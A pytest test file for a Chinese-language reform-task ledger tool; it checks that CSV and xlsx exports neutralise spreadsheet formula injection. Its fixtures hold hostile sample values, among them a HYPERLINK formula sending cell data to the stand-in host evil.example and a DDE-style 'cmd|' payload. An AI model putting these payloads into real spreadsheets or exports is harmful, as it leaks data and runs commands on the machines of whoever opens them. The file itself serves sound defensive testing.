"""Formula injection: a title or unit name that a spreadsheet would evaluate (=HYPERLINK(...), +, -, @, tab,
CR, full-width ＝＋－＠) is text in every tabular output: a quoted CSV field, a text cell in xlsx. An untouched
export still imports with no change."""

from __future__ import annotations

import csv
import io
import re

import pytest
from conftest import git

openpyxl = pytest.importorskip("openpyxl")

EVIL = {
    "T-2016-001": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "T-2016-002": "+1+cmd|' /C calc'!A0",
    "T-2016-003": "-2+3",
    "T-2016-004": "@SUM(1,2)",
    "T-2016-005": "＝1+1",
}


def retitle(repo, titles: dict[str, str]) -> None:
    for tid, title in titles.items():
        p = repo / "tasks" / f"{tid}.yaml"
        text = p.read_text(encoding="utf-8")
        quoted = "'" + title.replace("'", "''") + "'"
        text, n = re.subn(r"(?m)^title: .*$", lambda m, q=quoted: "title: " + q, text, count=1)
        assert n == 1
        p.write_text(text, encoding="utf-8")
    git(repo, "commit", "-qam", "hostile titles")


@pytest.fixture
def evil_repo(sample_repo):
    retitle(sample_repo, EVIL)
    return sample_repo


def test_xlsx_export_stores_formula_like_text_as_text_and_imports_unchanged(cli, evil_repo, tmp_path):
    out = tmp_path / "x.xlsx"
    r = cli("export", "--ledger", evil_repo, "--xlsx", out, "--as-of", "2016-12-31", "--lang", "zh")
    assert r.exit_code == 0, r
    wb = openpyxl.load_workbook(out)
    ws = wb["改革任务"]
    seen = {}
    for row in ws.iter_rows(min_row=2):
        if row[0].value in EVIL:
            seen[row[0].value] = row[1]
    assert set(seen) == set(EVIL)
    for tid, cell in seen.items():
        assert cell.data_type == "s", (tid, cell.data_type)
        assert cell.value == EVIL[tid]  # exact text, no quote added
        assert cell.quotePrefix
    for sheet in wb.worksheets:  # nothing anywhere is a formula
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    head = git(evil_repo, "rev-parse", "HEAD")
    r = cli("import", "--ledger", evil_repo, out, "--as-of", "2016-12-31")
    assert r.exit_code == 0, r
    assert "nothing to change" in r.stderr
    assert git(evil_repo, "rev-parse", "HEAD") == head
    assert git(evil_repo, "status", "--porcelain") == ""


def dangerous(field: str) -> bool:
    return field[:1] != "" and field[:1] in "=+-@\t\r＝＋－＠" and not re.fullmatch(r"-?\d+", field)


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_status_csv_quotes_formula_like_fields(cli, evil_repo):
    r = cli("status", "--ledger", evil_repo, "--format", "csv", "--as-of", "2017-06-30")
    assert r.exit_code in (0, 1), r
    rows = rows_of(r.stdout)
    title_at = rows[0].index("title")
    titles = {row[title_at] for row in rows[1:]}
    assert titles & {"'" + t for t in EVIL.values()}, titles
    for row in rows[1:]:
        for field in row:
            assert not dangerous(field), row


def test_agenda_csv_quotes_formula_like_fields(cli, evil_repo):
    r = cli("agenda", "--ledger", evil_repo, "--format", "csv", "--as-of", "2016-12-01")
    assert r.exit_code in (0, 1), r
    for row in rows_of(r.stdout)[1:]:
        for field in row:
            assert not dangerous(field), row


def test_summary_csv_quotes_a_formula_like_unit(cli, make_ledger):
    root = make_ledger(
        {
            "units.yaml": "- id: '=cmd|x'\n  name: 坏单位\n  type: department\n"
            "- id: 经济专项小组\n  name: 经济体制改革专项小组\n  type: special_group\n",
            "tasks/T-1.yaml": "id: T-1\ntitle: 任务\nyear: 2016\nlead_unit: '=cmd|x'\nspecial_group: 经济专项小组\nstart: 2016-01-01\n"
            "due: 2016-12-31\nstatus: in_progress\n",
        }
    )
    r = cli(
        "summary", "--ledger", root, "--format", "csv", "--by", "unit", "--quarter", "2016Q4", "--as-of", "2016-12-31"
    )
    assert r.exit_code == 0, r
    keys = [row[0] for row in rows_of(r.stdout)[1:]]
    assert "'=cmd|x" in keys, r.stdout


def test_programme_xlsx_keeps_the_text_as_text(cli, make_ledger, tmp_path):
    root = make_ledger(
        {
            "cases/C-1.yaml": "id: C-1\ntitle: '@SUM(A1)'\nunit: 市发改委\nkind: typical_case\n"
            "date: 2016-05-01\npromoted: [2016]\n"
        }
    )
    out = tmp_path / "c.xlsx"
    r = cli("cases", "--ledger", root, "--year", "2016", "--xlsx", out)
    assert r.exit_code == 0, r
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == "@SUM(A1)"]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.mark.parametrize(
    "value,quoted",
    [
        ("=1+1", True),
        ("+1", False),
        ("-5", False),
        ("-5x", True),
        ("@x", True),
        ("\tx", True),
        ("\rx", True),
        ("＝x", True),
        ("＋x", True),
        ("－x", True),
        ("＠x", True),
        ("a=b", False),
        ("", False),
        (3, False),
    ],
)
def test_csv_cell(value, quoted):
    from reformctl.views.safe import csv_cell

    assert (csv_cell(value) != value) is quoted
